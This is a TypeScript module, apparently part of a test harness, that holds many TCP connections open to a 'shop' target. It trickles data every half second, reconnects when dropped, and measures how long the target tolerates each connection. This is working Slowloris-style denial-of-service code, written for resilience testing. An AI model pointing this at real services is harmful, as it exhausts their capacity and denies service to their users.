import { connect, type Socket } from 'node:net'
import type { Target } from './attack.ts'

const tickMs = 500
/** An attacker reconnects when disconnected, but not without end. */
const maxConnections = 10_000
const reconnectMs = 1_000

export interface SocketPlan {
  count: number
  /** The address from which a socket connects. */
  getAddress(index: number): string
  /** What it sends at first, and then every half second. */
  begin: string
  more: string
}

export interface HeldSockets {
  /** Connections that the shop has left open for at least this time. */
  countHeld(minMs: number): number
  /** How long the oldest connection was kept by the shop, in seconds. */
  getLongestSeconds(): number
  release(): void
}

/** Keeps a number of connections open, each replaced when the shop closes it. */
export function holdSockets(target: Target, plan: SocketPlan): HeldSockets {
  const open = new Map<Socket, number>()
  let opened = 0
  let longestMs = 0
  let isReleased = false
  const openOne = (index: number): void => {
    if (isReleased || opened >= maxConnections) return
    opened += 1
    const { host, port } = target
    const socket = connect({ host, port, localAddress: plan.getAddress(index) })
    socket.on('connect', () => {
      open.set(socket, performance.now())
      socket.write(plan.begin)
    })
    socket.on('error', () => {})
    socket.on('close', () => {
      const openedAt = open.get(socket)
      if (openedAt !== undefined) longestMs = Math.max(longestMs, performance.now() - openedAt)
      open.delete(socket)
      setTimeout(openOne, reconnectMs, index)
    })
    socket.resume()
  }
  for (let index = 0; index < plan.count; index += 1) openOne(index)
  const ticking = setInterval(() => {
    for (const socket of open.keys()) if (plan.more && socket.writable) socket.write(plan.more)
  }, tickMs)
  return {
    countHeld(minMs) {
      const latest = performance.now() - minMs
      return [...open.values()].filter((openedAt) => openedAt <= latest).length
    },
    getLongestSeconds() {
      const now = performance.now()
      const ages = [...open.values()].map((openedAt) => now - openedAt)
      return Math.max(longestMs, ...ages) / 1000
    },
    release() {
      isReleased = true
      clearInterval(ticking)
      for (const socket of open.keys()) socket.destroy()
    },
  }
}
